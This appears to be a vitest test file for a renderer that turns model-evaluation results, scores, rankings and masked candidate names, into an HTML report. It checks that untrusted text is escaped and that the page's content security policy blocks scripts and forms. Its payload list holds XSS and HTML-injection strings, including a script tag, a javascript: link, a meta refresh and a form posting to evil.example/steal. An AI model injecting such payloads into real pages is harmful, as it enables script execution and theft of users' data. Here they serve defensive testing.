import { describe, expect, it } from 'vitest';
import { renderReportHtml, escapeHtml, REPORT_CSP, type ReportInput } from './htmlReport.ts';

const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(2)>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/steal" method="post"><input name=q><button>Go</button></form>`,
  `<base href="https://evil.example/">`,
  `<a href="javascript:alert(3)">x</a>`,
  `" onmouseover="alert(4)" x="`,
  `' style='background:url(https://evil.example/)' '`,
  `</pre></td></tr></table><iframe src="https://evil.example/">`,
];
const payload = PAYLOADS.join('\n');

function report(overrides: Partial<ReportInput> = {}): string {
  return renderReportHtml({
    title: payload,
    generatedAt: payload,
    modelId: payload,
    principle: payload,
    prompt: payload,
    candidates: [
      { name: payload, text: payload, score: 4, rank: 1 },
      { name: 'B', text: 'b', score: null, rank: null },
    ],
    reasoning: payload,
    findings: [payload],
    stats: [[payload, payload]],
    raw: payload,
    settings: [['temperature', payload]],
    ...overrides,
  });
}

/** Every tag the document opens, by name: the report's own markup only. */
const tags = (html: string) => [...html.matchAll(/<([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase());
const OWN_TAGS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'h3', 'p', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'strong', 'div', 'i', 'ul', 'li', 'mark']);

/** The text of each row of the scores table (rank, candidate, score), in the order a reader sees them. */
function scoreRows(html: string): string[][] {
  const body = /<h2>Scores and ranking<\/h2><table>.*?<tbody>(.*?)<\/tbody>/s.exec(html)?.[1] ?? '';
  return [...body.matchAll(/<tr>(.*?)<\/tr>/gs)].map((row) =>
    [...row[1]!.matchAll(/<td>(.*?)<\/td>/gs)].map((cell) => cell[1]!.replace(/<[^>]*>/g, '')).filter((t) => t !== ''),
  );
}

describe('renderReportHtml', () => {
  it('escapes every piece of untrusted text: no tag, attribute or meta of its own', () => {
    const html = report();
    expect(tags(html).filter((t) => !OWN_TAGS.has(t))).toEqual([]);
    expect(html.match(/<meta/g)).toHaveLength(4); // charset, referrer, policy, viewport
    expect(html).not.toMatch(/<(script|form|base|iframe|img|a)\b/i);
    const openTags = html.match(/<[a-zA-Z][^>]*>/g) ?? [];
    expect(openTags.filter((t) => /\son\w+=|javascript:|evil\.example/i.test(t))).toEqual([]);
    expect(html).toContain(escapeHtml(payload));
  });
  it('escapes score and rank values from a malformed file as well', () => {
    const hostile = PAYLOADS[2] as unknown as number;
    const html = report({ candidates: [{ name: 'A', text: 'a', score: hostile, rank: hostile }] });
    expect(html).not.toMatch(/<meta http-equiv="refresh"/i);
    expect(html).toContain('&lt;meta http-equiv=&quot;refresh&quot;');
    expect(html).toContain('style="width:0%"');
  });
  it('forbids scripts, requests, forms, base and frames through its own policy', () => {
    const html = report();
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${REPORT_CSP}">`);
    for (const d of ["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-src 'none'"]) expect(REPORT_CSP).toContain(d);
    expect(REPORT_CSP).not.toMatch(/script-src|unsafe-eval/);
  });
  it('lists candidates best first with their scores, unranked ones last', () => {
    const html = report({
      candidates: [
        { name: 'unscored', text: 'u', score: null, rank: null },
        { name: 'second', text: 's', score: 3, rank: 2 },
        { name: 'first', text: 'f', score: 5, rank: 1 },
      ],
    });
    expect(scoreRows(html)).toEqual([
      ['#1', 'first', '5'],
      ['#2', 'second', '3'],
      ['—', 'unscored', '—'],
    ]);
  });
  it('shows the expected score beside the integer one where the judgment has one, and no such column where none has', () => {
    const html = report({
      candidates: [
        { name: 'first', text: 'f', score: 5, rank: 1, expected: 4.376 },
        { name: 'second', text: 's', score: 5, rank: 2, expected: null },
      ],
    });
    expect(html).toContain('<th>Expected</th>');
    expect(scoreRows(html)).toEqual([
      ['#1', 'first', '5', '4.38'],
      ['#2', 'second', '5', '—'],
    ]);
    expect(report()).not.toContain('<th>Expected</th>');
  });
  it('shows the masking key beside the scores and marks each masked name in the reasoning with the user\'s name', () => {
    const html = report({
      candidates: [
        { name: 'tilt', text: 'a', score: 2, rank: 2 },
        { name: payload, text: 'b', score: 5, rank: 1 },
      ],
      reasoning: 'model-2 is right; model-1 is wrong. model-12 is no one.',
      nameKey: [
        ['model-1', 'tilt'],
        ['model-2', payload],
      ],
    });
    expect(html).toContain('<th>Model saw</th>');
    expect(html).toContain('<td><strong>tilt</strong></td><td>model-1</td>');
    expect(html).toContain(`<mark>model-2 · ${escapeHtml(payload)}</mark> is right; <mark>model-1 · tilt</mark> is wrong. model-12 is no one.`);
    expect(html).toContain('the model saw the candidates as model-1 = <strong>tilt</strong>');
    expect(tags(html).filter((t) => !OWN_TAGS.has(t))).toEqual([]);
  });
  it('has no key column without masking', () => {
    expect(report({ nameKey: null })).not.toContain('Model saw');
  });
});
